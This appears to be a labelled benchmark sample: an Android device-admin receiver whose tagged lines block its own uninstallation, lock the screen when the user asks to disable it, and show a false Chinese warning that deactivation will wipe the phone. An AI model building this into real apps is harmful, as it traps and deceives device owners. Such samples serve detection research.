package bench.points.admin_bars_removal;

import android.app.admin.DeviceAdminReceiver;
import android.content.Context;
import android.content.Intent;
import android.widget.Toast;

public final class Keeper extends DeviceAdminReceiver {
    @Override
    public void onEnabled(Context context, Intent intent) {
        Toast.makeText(context, "已激活", Toast.LENGTH_SHORT).show();
    }

    @Override //: @owner_block
    public void onProfileProvisioningComplete(Context context, Intent intent) { //: @owner_block
        getManager(context).setUninstallBlocked(getWho(context), context.getPackageName(), true); //: @owner_block #block
        getManager(context).setProfileEnabled(getWho(context)); //: @owner_block
    } //: @owner_block

    @Override //: @breach
    public CharSequence onDisableRequested(Context context, Intent intent) { //: @breach
        getManager(context).lockNow(); //: @breach #lock
        return "取消激活将清空手机数据，请点击返回"; //: @breach
    } //: @breach
}
